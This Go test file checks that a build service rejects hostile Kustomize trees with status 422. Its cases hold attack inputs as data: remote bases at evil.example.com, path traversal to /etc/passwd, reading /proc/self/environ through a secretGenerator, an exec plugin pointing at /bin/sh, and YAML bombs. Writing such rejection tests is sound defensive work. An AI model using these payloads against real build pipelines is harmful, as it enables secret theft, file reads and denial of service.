package hostile

import (
	"strings"
	"testing"
)

// Trees that are well made and hold what should not be rendered.
func TestContents(t *testing.T) {
	t.Parallel()
	kustomization := func(text string, more ...string) attack {
		return attack{path: app + "/build", body: tree(append([]string{"deploy/kustomization.yaml", text, "deploy/one.yaml", manifest}, more...)...)}
	}
	bomb := "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: bomb}\ndata:" + strings.ReplaceAll(yamlBomb, "\n", "\n  ")
	for name, test := range map[string]struct {
		attack
		says string
	}{
		"remote base":               {kustomization("resources: ['https://evil.example.com/base?ref=v1']\n"), "evil.example.com"},
		"remote base by SSH":        {kustomization("resources: ['git@evil.example.com:a/b']\n"), "evil.example.com"},
		"absolute path":             {kustomization("resources: [/etc/passwd]\n"), "/etc/passwd"},
		"path that climbs":          {kustomization("resources: [../../../../../etc/passwd]\n"), "etc/passwd"},
		"base that climbs":          {kustomization("bases: ['../..']\n"), ""},
		"base of itself":            {kustomization("resources: [../deploy]\n"), ""},
		"plugin":                    {kustomization("generators: [gen.yaml]\n", "deploy/gen.yaml", "apiVersion: evil/v1\nkind: Exec\nmetadata:\n  name: x\n  annotations: {config.kubernetes.io/function: '{exec: {path: /bin/sh}}'}\n"), ""},
		"Helm chart":                {kustomization("helmCharts: [{name: a, repo: 'https://evil.example.com'}]\n"), ""},
		"bomb of YAML":              {kustomization("resources: [bomb.yaml]\n", "deploy/bomb.yaml", bomb), "512 MiB"},
		"bomb in the kustomization": {kustomization(yamlBomb), "kustomization"},
		"depth of 20000":            {kustomization("resources: [deep.yaml]\n", "deploy/deep.yaml", "a: "+strings.Repeat("[", 20_000)), "deep.yaml"},
		"secrets by environment":    {kustomization("secretGenerator: [{name: a, envs: [/proc/self/environ]}]\n"), "/proc/self/environ"},
		"component that is missing": {kustomization("components: [../../x]\n"), "x"},
	} {
		t.Run(name, func(t *testing.T) {
			a := test.attack
			a.code, a.to = 422, direct
			if test.says != "" {
				a.says = []string{test.says}
			}
			a.send(t, direct)
		})
	}
}
